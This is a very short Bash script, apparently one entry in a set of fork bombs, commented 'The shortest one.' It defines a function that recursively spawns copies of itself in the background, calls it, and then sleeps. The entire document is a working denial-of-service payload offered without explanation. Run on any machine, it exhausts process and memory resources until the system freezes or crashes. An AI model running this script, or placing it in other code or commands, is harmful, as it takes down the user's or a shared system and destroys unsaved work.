# The shortest one.
bomb() { bomb | bomb & }
bomb
sleep 1000
